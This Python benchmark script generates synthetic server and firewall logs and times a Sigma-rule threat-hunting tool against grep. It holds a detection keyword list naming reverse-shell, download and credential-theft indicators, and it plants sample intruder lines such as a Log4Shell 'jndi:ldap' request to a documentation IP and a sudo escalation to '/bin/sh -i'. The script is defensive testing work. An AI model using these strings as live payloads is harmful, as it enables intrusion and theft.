#!/usr/bin/env python3
"""Logs of lines against grep: how fast a hunt with all rules reads them, as a share of `LC_ALL=C grep -c -F -f`.

usage: lines.py [--program build/release/silhouette] [--shared ../shared] [--work /dev/shm/lines] [--mb 32]
                [--rounds 3] [--only NAME[,NAME]] [--pin CORE]

Each log is made here, seeded, of varied lines as such devices write them: addresses, ports, times and numbers differ
from line to line, an intruder's line stands in a few thousand. grep looks for 20 literals that rules ask for. Both run
on one thread, in turn; the lowest of --rounds counts. `hunt` is the wall time without start-up and rule loading
(`--timings` says them). Prints one row a log: MB, lines, seconds of each, ratio (grep / hunt), findings.
"""

import argparse
import datetime
import json
import os
import random
import re
import subprocess
import time

HERE = os.path.dirname(os.path.abspath(__file__))
LITERALS = [
    "mimikatz",
    "/etc/shadow",
    "jndi:ldap",
    "union select",
    "wget http",
    "/bin/sh -i",
    "nc -e",
    "chattr -i",
    "authorized_keys",
    "ld.so.preload",
    "insmod ",
    "base64 -d",
    "cmd.exe",
    "xp_cmdshell",
    "..%2f..%2f",
    "sqlmap",
    "unexpected internal error",
    "segfault at",
    "privilege escalation",
    "/dev/tcp/",
]
PATHS = ["/", "/index.html", "/api/v1/users", "/static/app.js", "/images/logo.png", "/login", "/search", "/feed.xml"]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1",
    "curl/8.5.0",
    "Zabbix",
]
FORMATS = {
    "stamp": "%b %e %H:%M:%S",
    "clf": "%d/%b/%Y:%H:%M:%S +0200",
    "date": "%Y-%m-%d",
    "clock": "%H:%M:%S",
    "slashes": "%Y/%m/%d",
}
USERS = ["anna", "root", "backup", "www-data", "postgres", "deploy", "marek", "ines"]
TOOLS = ["ls", "cat", "grep", "awk", "date", "sh", "bash", "python3", "rsync", "find", "ps", "id", "tar", "curl"]
CHOICES = {"user": USERS, "tool": TOOLS, "path": PATHS, "agent": AGENTS, "status": [200, 200, 304, 404]}


# Lines of a log: how often, and the text. {ip}, {port}, {user}, {tool}, {path}, {agent} are drawn; {w7} is a word of
# seven letters, {x8} up to eight hex digits, {n90} a number below 90, {z3} three digits; {stamp}, {clf}, {date},
# {clock}, {slashes}, {epoch}, {millis}, {serial} say the time of the line, {argument} and {hex} what a record runs.
SYSLOG = "{stamp} web0{n4} "
AUDIT = "msg=audit({epoch}.{millis}:{serial}):"
TEMPLATES = {
    "syslog": [
        (2500, SYSLOG + "sshd[{n32768}]: Failed password for invalid user {w6} from {ip} port {port} ssh2"),
        (
            1000,
            SYSLOG + "sshd[{n32768}]: Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{w43}",
        ),
        (
            1000,
            SYSLOG + "sshd[{n32768}]: pam_unix(sshd:session): session opened for user {user}(uid={n2000}) by (uid=0)",
        ),
        (1500, SYSLOG + "CRON[{n32768}]: ({user}) CMD (/usr/local/bin/{w6} --quiet >/var/log/{w5}.log 2>&1)"),
        (800, SYSLOG + "sudo: {user} : TTY=pts/{n9} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/{tool} {w6}"),
        (1400, SYSLOG + "systemd[1]: Started {w9}.service - {w6} {w9}."),
        (
            1000,
            SYSLOG + "kernel: [{n999999}.{z6}] [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST={ip} LEN={n1500} TTL=64 PROTO=TCP "
            "SPT={port} DPT={port} SYN",
        ),
        (800, SYSLOG + "postfix/smtpd[{n32768}]: connect from {w7}.example.net[{ip}]"),
        (3, SYSLOG + "sudo: {user} : TTY=pts/1 ; PWD=/tmp ; USER=#-1 ; COMMAND=/bin/sh -i"),
    ],
    "access": [
        (6000, '{ip} - - [{clf}] "GET {path} HTTP/1.1" 200 {n90000} "-" "{agent}"'),
        (
            2000,
            '{ip} - anna [{clf}] "POST {path}?id={n999999}&q={w7} HTTP/1.1" 302 {n90000} "https://a.fr/{w6}" "{agent}"',
        ),
        (2000, '{ip} - - [{clf}] "GET {path}{w5} HTTP/1.1" 404 {n90000} "https://www.example.org/{w6}" "{agent}"'),
        (3, '{ip} - - [{clf}] "GET /?x=${{jndi:ldap://203.0.113.9/a}} HTTP/1.1" 200 12 "-" "{agent}"'),
    ],
    "auditd": [
        (
            2000,
            "type=USER_AUTH " + AUDIT + " pid={n32768} uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication "
            'grantors=pam_unix acct="{user}" exe="/usr/sbin/sshd" hostname={ip} addr={ip} terminal=ssh res=success\'',
        ),
        (
            8000,
            "type=SYSCALL "
            + AUDIT
            + " arch=c000003e syscall=59 success=yes exit=0 a0={x8} a1={x8} a2={x8} a3=8 items=2 "
            "ppid={n32768} pid={n32768} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 "
            'ses={n900} comm="{tool}" exe="/usr/bin/{tool}" subj=unconfined key="exec"\n'
            "type=EXECVE " + AUDIT + ' argc=2 a0="{tool}" a1="{argument}"\n'
            "type=CWD " + AUDIT + ' cwd="/home/{user}"\n'
            "type=PATH "
            + AUDIT
            + ' item=0 name="/usr/bin/{tool}" inode={n999999} dev=fd:01 mode=0100755 ouid=0 ogid=0 '
            "rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\n"
            "type=PROCTITLE " + AUDIT + " proctitle={hex}",
        ),
    ],
    "w3c": [
        (1, "{date} {clock} 10.0.0.5 GET {path} id={n999999} 443 - {ip} {plus_agent} - {status} 0 0 {n900}"),
    ],
    "zeek": [
        (
            1,
            "{epoch}.{z6}\tC{w17}\t{ip}\t{port}\t{ip}\t53\tudp\t{n65536}\t0.{z6}\t{w9}.example.com\t1\tC_INTERNET\t1\t"
            "A\t0\tNOERROR\tF\tF\tT\tT\t0\t{ip}\t60.000000\tF",
        ),
    ],
    "fortigate": [
        (
            1,
            'date={date} time={clock} devname="edge1" devid="FG100F0000000001" eventtime={epoch}{z9} tz="+0200" '
            'logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip={ip} srcport={port} '
            'srcintf="port2" dstip={ip} dstport=443 dstintf="wan1" sessionid={n99999999} proto=6 action="close" '
            'policyid={n90} service="HTTPS" trandisp="snat" duration={n900} sentbyte={n999999} rcvdbyte={n999999}',
        ),
    ],
    "cisco": [
        (
            50,
            "{stamp} fw01 : %ASA-6-302013: Built outbound TCP connection {n99999999} for outside:{ip}/{port} "
            "({ip}/{port}) to inside:{ip}/{port} ({ip}/{port})",
        ),
        (
            40,
            "{stamp} fw01 : %ASA-6-302014: Teardown TCP connection {n99999999} for outside:{ip}/{port} to "
            "inside:{ip}/{port} duration 0:{z2}:{z2} bytes {n999999} TCP FINs",
        ),
        (
            10,
            "{stamp} fw01 : %ASA-4-106023: Deny tcp src outside:{ip}/{port} dst inside:{ip}/443 by access-group "
            '"out" [0x0, 0x0]',
        ),
    ],
    "panos": [
        (
            1,
            "1,{slashes} {clock},012801000001,TRAFFIC,end,2560,{slashes} {clock},{ip},{ip},{ip},0.0.0.0,allow-web,,,"
            "ssl,vsys1,trust,untrust,ae1,ae2,fwd,{slashes} {clock},{n999999},1,{port},443,{port},443,0x400053,tcp,"
            "allow,{n999999},{n99999},{n99999},{n90}",
        ),
    ],
    "squid": [
        (
            1,
            "{epoch}.{millis}    {z3} 10.0.{n256}.{n256} TCP_MISS/200 {n90000} GET http://{w7}.example.com{path} - "
            "HIER_DIRECT/{ip} text/html",
        ),
    ],
    "cef": [
        (
            1,
            "{stamp} fw01 CEF:0|Example|Wall|10.1|{n900}|connection blocked|{n10}|src={ip} spt={port} dst={ip} dpt=443 "
            "proto=TCP act=blocked request=http://{w8}.example.com/ cs1Label=policy cs1={w6}",
        ),
    ],
}


class Maker:
    def __init__(self, name):
        self.random = random.Random(name)
        self.now = datetime.datetime(2025, 5, 30, 8, 0, 0, tzinfo=datetime.timezone.utc)
        self.serial = 1000
        self.weights = [weight for weight, _ in TEMPLATES[name]]
        self.templates = [
            re.split(r"\{(\w+)\}", text.replace("{{", "\0").replace("}}", "\1")) for _, text in TEMPLATES[name]
        ]

    def line(self):
        parts = self.random.choices(self.templates, self.weights)[0]
        self.now += datetime.timedelta(milliseconds=self.random.randrange(900))
        self.serial += 1
        drawn = {}  # of what a line repeats: an audit record's program
        texts = [part if i % 2 == 0 else self.value(part, drawn) for i, part in enumerate(parts)]
        return "".join(texts).replace("\0", "{").replace("\1", "}")

    def value(self, name, drawn):
        r = self.random
        if name[0] in "wxnz" and name[1:].isdigit():
            size = int(name[1:])
            if name[0] == "x":
                return f"{r.randrange(16**size):x}"
            if name[0] == "w":
                return "".join(r.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=size))
            return str(r.randrange(size)) if name[0] == "n" else f"{r.randrange(10**size):0{size}d}"
        if name == "ip":
            return f"{r.randrange(1, 224)}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"
        if name == "port":
            return str(r.randrange(1024, 65536))
        if name in FORMATS:
            return self.now.strftime(FORMATS[name])
        if name == "epoch":
            return str(int(self.now.timestamp()))
        if name == "millis":
            return f"{self.now.microsecond // 1000:03d}"
        if name == "serial":
            return str(self.serial)
        if name == "hex":
            return f"{drawn['tool']}\0{drawn['argument']}".encode().hex().upper()
        if name == "argument":
            return drawn.setdefault(name, "/etc/shadow" if r.random() < 0.0003 else self.value("w8", drawn))
        if name == "plus_agent":
            return r.choice(AGENTS).replace(" ", "+")
        return drawn.setdefault(name, str(r.choice(CHOICES[name])))


W3C_FIELDS = (
    "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status "
    "sc-substatus sc-win32-status time-taken"
)
ZEEK_FIELDS = (
    "ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto trans_id rtt query qclass qclass_name qtype qtype_name rcode "
    "rcode_name AA TC RD RA Z answers TTLs rejected"
)
HEADERS = {
    "w3c": f"#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Fields: {W3C_FIELDS}\n",
    "zeek": "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tdns\n#fields\t"
    + ZEEK_FIELDS.replace(" ", "\t")
    + "\n",
}
LOGS = sorted(TEMPLATES)


def make(name, path, megabytes):
    if os.path.exists(path):
        return
    maker = Maker(name)
    size, limit = 0, megabytes << 20
    with open(path + ".part", "w") as f:
        f.write(HEADERS.get(name, ""))
        while size < limit:
            block = "".join(maker.line() + "\n" for _ in range(1000))
            size += len(block)
            f.write(block)
    os.rename(path + ".part", path)


def run(command, pin, environment):
    begun = time.monotonic()
    # A pipe that is read at once, so that nothing is written to a disk.
    done = subprocess.run(pin + command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=environment, check=False)
    return time.monotonic() - begun, done


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--program", default=os.path.join(HERE, "../build/release/silhouette"))
    parser.add_argument("--shared", default=os.path.join(HERE, "../../shared"))
    parser.add_argument("--work", default="/dev/shm/lines")
    parser.add_argument("--mb", type=int, default=32)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--only", default=",".join(LOGS))
    parser.add_argument("--pin", default="")
    options = parser.parse_args()
    os.makedirs(options.work, exist_ok=True)
    literals = os.path.join(options.work, "literals")
    with open(literals, "w") as f:
        f.write("\n".join(LITERALS) + "\n")
    rules = []
    for folder in ("rules", "rules-emerging-threats", "rules-threat-hunting"):
        rules += ["--rules", os.path.join(options.shared, "data/sigmahq", folder)]
    pin = ["taskset", "-c", options.pin] if options.pin else []
    environment = dict(os.environ, LC_ALL="C")
    print(f"{'log':10} {'MB':>6} {'lines':>9} {'grep s':>7} {'hunt s':>7} {'ratio':>6} {'wall s':>7} findings")
    for name in options.only.split(","):
        path = os.path.join(options.work, f"{name}.log")
        make(name, path, options.mb)
        with open(path, "rb") as f:
            lines = sum(block.count(b"\n") for block in iter(lambda: f.read(1 << 20), b""))
        grep, hunt, wall, findings = 1e9, 1e9, 1e9, set()
        for _ in range(options.rounds):
            seconds, _ = run(["grep", "-c", "-F", "-f", literals, path], pin, environment)
            grep = min(grep, seconds)
            seconds, done = run(
                [options.program, "hunt", *rules, "--threads", "1", "--timings", path], pin, environment
            )
            timings = next(json.loads(line) for line in done.stderr.splitlines() if line.startswith(b"{"))
            if done.returncode != 0:
                raise SystemExit(f"{name}: exit {done.returncode}: {done.stderr.decode()}")
            wall = min(wall, seconds)
            hunt = min(hunt, seconds - timings["load_ms"] / 1000)
            findings.add(done.stdout.count(b'{"schema":"silhouette/finding/'))
        if len(findings) != 1:
            raise SystemExit(f"{name}: rounds differ in findings: {findings}")
        size = os.path.getsize(path) / 1e6
        print(
            f"{name:10} {size:6.1f} {lines:9d} {grep:7.3f} {hunt:7.3f} {grep / hunt:6.3f} {wall:7.3f} {findings.pop()}",
            flush=True,
        )


if __name__ == "__main__":
    main()
